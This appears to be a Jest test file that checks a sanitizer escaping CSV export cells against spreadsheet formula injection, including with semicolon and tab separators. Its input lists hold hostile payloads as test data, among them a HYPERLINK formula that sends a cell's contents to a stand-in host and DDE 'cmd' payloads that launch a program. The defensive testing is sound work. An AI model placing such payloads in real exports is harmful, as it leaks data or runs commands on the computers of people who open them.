import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvCell } from '../../src/reads/csv-cell.js';

describe('a cell of an export', () => {
  it.each([
    '7735550167',
    '+12135550167',
    '+1 213 555 0167',
    '+1 (213) 555-0167',
    '+44 20 7946 0958',
    '-5.20',
    '-1',
    '+7',
    '-1,234.50',
    '-1e-5',
    'null',
    'true',
    '',
    '{"id":1}',
    'a = b',
    '1-1',
  ])('stays as it is: %s', (text) => {
    expect(csvCell(text)).toBe(text);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example.test/?"&A1)',
    '@SUM(A1)',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '+1-2',
    '-A1',
    '+A1',
    '--5',
    '+',
    '-',
    '+1 213 555 0167=1',
    '+123456789012345678 5',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
  ])('is kept from being a formula: %j', (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
  });

  it.each(['\t=1+1', '\r=1+1', '\n=1+1', '+12135550167\n=1+1'])(
    'is kept from it at its beginning and behind what may begin another cell: %j',
    (text) => {
      expect(csvCell(text)).toBe(`'${text.replace(/([\t\r\n])/, "$1'")}`);
    },
  );

  it('never begins like a formula unless it is all digits, signs and separators of one number', () => {
    fc.assert(
      fc.property(
        fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ''), fc.string({ unit: 'binary' })),
        ([start, rest]) => {
          const cell = csvCell(start + rest);
          expect(cell).not.toMatch(/^[=@\t\r\n]/);
          if (/^[+-]/.test(cell)) expect(cell).toMatch(/^[+-][\d .,()eE+-]+$/);
          expect([start + rest, `'${start}${rest}`]).toContain(cell);
        },
      ),
      { numRuns: 2_000 },
    );
  });
});

describe('C11: a cell of an export that is opened where something else separates', () => {
  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a; =1+1', "a;' =1+1"],
    ['a;"=1+1"', `a;'"=1+1"`],
    ['a;;@SUM(A1)', "a;;'@SUM(A1)"],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\t-1+1', "a\t'-1+1"],
    ['a;b', 'a;b'],
    ['a, -b', 'a, -b'],
  ])('%j becomes %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('is guarded behind commas where the file itself has semicolons', () => {
    expect(csvCell('a,=1+1;b', ';')).toBe("a,'=1+1;b");
  });

  it.each([',', ';'] as const)(
    'never begins as a formula in a file with "%s", however it is cut',
    (separator) => {
      const piece = fc.constantFrom('=', '@', '+', '-', ';', '"', "'", ' ', '\n', '\t', 'a', '1', ',');
      fc.assert(
        fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
          const other = separator === ',' ? /[;\t\r\n]/ : /[,\t\r\n]/;
          const [, ...later] = csvCell(pieces.join(''), separator).split(other);
          for (const cell of later) expect(cell.replace(/^[\s"]*/, '')).not.toMatch(/^[=@+-]/);
        }),
      );
    },
  );
});
